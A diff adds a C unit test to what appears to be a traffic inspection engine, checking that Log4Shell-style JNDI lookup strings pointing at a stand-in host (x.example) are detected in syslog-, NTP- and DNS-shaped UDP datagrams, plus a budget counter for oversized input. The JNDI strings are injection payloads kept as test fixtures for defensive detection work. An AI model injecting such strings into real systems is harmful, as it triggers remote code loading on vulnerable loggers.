@@ -645,6 +645,36 @@ START_TEST(junk_in_the_first_datagram_does_not_hide_dns)
 }
 END_TEST
 
+// What a log server takes for a line may look like NTP: '#' and a tab.
+START_TEST(a_datagram_that_nobody_parses_is_searched_whatever_it_is_called)
+{
+	static char long_one[9000];
+	struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow};
+
+	flow.transport = UDP;
+	flow.direction = DIRECTION_IN;
+	flow.server_port = 514;
+	in.data = edge_copy(bytes_of_text("#\t${jndi:ldap://x.example/a} and some words to make it 48 bytes"));
+	proto_datagram(pool, &datagrams, &in, &sink, &app);
+	ck_assert_int_eq(app, APP_NTP);
+	ck_assert_uint_eq(seen(OBS_JNDI), 1);
+	in.data = edge_copy(bytes_of_text("<13>${jndi:ldap://x.example/a}"));
+	proto_datagram(pool, &datagrams, &in, &sink, &app);
+	ck_assert_uint_eq(seen(OBS_JNDI), 2);
+	app = APP_NONE; // no DNS on this port
+	in.data = edge_copy(bytes_of("\x12\x34\1\0\0\1\0\0\0\0\0\0\x1b${jndi:ldap://x.example/aa}\0\0\1\0\1", 45));
+	proto_datagram(pool, &datagrams, &in, &sink, &app);
+	ck_assert_int_eq(app, APP_DNS);
+	ck_assert_uint_eq(seen(OBS_JNDI), 3);
+	app = APP_NONE;
+	memset(long_one, 'x', sizeof(long_one));
+	in.data = bytes_of(long_one, sizeof(long_one));
+	ck_assert_uint_eq(counters.value[COUNT_PROTO_BUDGET], 0);
+	proto_datagram(pool, &datagrams, &in, &sink, &app);
+	ck_assert_uint_eq(counters.value[COUNT_PROTO_BUDGET], 1);
+}
+END_TEST
+
 // Work, counted: whatever the size of the segments, a stream buys a fixed number of looks and searches.
 START_TEST(one_byte_a_segment_buys_a_fixed_number_of_looks)
 {
@@ -718,6 +748,7 @@ int main(void)
 	tcase_add_test(c, a_datagram_of_ntp_or_nothing_known_says_so_once);
 	tcase_add_test(c, a_dns_datagram_is_parsed);
 	tcase_add_test(c, junk_in_the_first_datagram_does_not_hide_dns);
+	tcase_add_test(c, a_datagram_that_nobody_parses_is_searched_whatever_it_is_called);
 	tcase_add_test(c, one_byte_a_segment_buys_a_fixed_number_of_looks);
 	tcase_add_test(c, one_closing_brace_a_segment_buys_a_fixed_number_of_searches);
 	suite_add_tcase(suite, c);
